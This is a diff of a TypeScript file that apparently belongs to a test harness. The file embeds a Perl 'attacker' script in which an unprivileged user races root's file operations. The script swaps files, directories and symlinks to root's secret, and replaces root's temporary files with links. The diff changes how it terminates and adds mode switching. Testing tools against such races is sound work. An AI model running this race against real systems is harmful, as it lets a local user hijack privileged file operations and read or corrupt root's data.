@@ -1,16 +1,16 @@
 /**
  * What eve runs while root works in her directories: perl, which every Debian has, some 100,000 renames a second. It takes the directory of
- * the victim, her own, and the names that root is to work with, and ends when its standard input does.
+ * the victim, her own, and the names that root is to work with, and ends after 20 minutes.
  *
  * - A name becomes, in turn, a file of hers, a link to root's secret, a link to root's directory, a directory of hers, or nothing.
  * - Whatever looks like a temporary file of root's is moved away, and a link stands in its place.
+ *   Two thirds of the time that is all, so that root comes to what is done last.
  * - Names are laid beforehand for temporary files that may come, and for old copies.
  */
 export const attacker = String.raw`
 use strict; use warnings; no warnings;
 my ($victim, $home, @names) = @ARGV;
-$| = 1; my ($n, $flags) = (0, '');
-require Fcntl; fcntl(STDIN, 4, 2048);
+my ($n, $mode) = (0, 0);
 my @targets = ("$victim/secret", "$victim/dir", "$victim/dir/inside", "$victim/nothing");
 sub away { my ($p) = @_; unlink $p or rmdir $p or rename $p, "$home/away." . int(rand 50) or rename $p, "$p." . int(rand 9e9) }
 sub lay { my ($p, $to) = @_; my $t = "$home/t$$"; unlink $t; symlink $to, $t; rename $t, $p or do { away($p); rename $t, $p } }
@@ -46,10 +46,11 @@ sub plant { my ($d, $name) = @_;
   unlink $p or rmdir $p if rand(4) < 3;
 }
 while (1) {
-  last if $n++ % 200 == 0 && defined(sysread STDIN, my $x, 1);
+  last if $n++ % 1000 == 0 && time - $^T > 1200;
   my $d = rand(3) < 1 ? "$home/deep" : $home;
   my $name = $names[rand @names];
-  my $r = rand 10;
+  $mode = int rand 3 if $n % 3000 == 0;
+  my $r = $mode == 0 ? rand 10 : 3.1 + rand 7;
   if ($r < 2) { toggle("$d/$name") }
   elsif ($r < 3) { swap("$home/deep") }
   elsif ($r < 3.2) { plant($d, $name) }
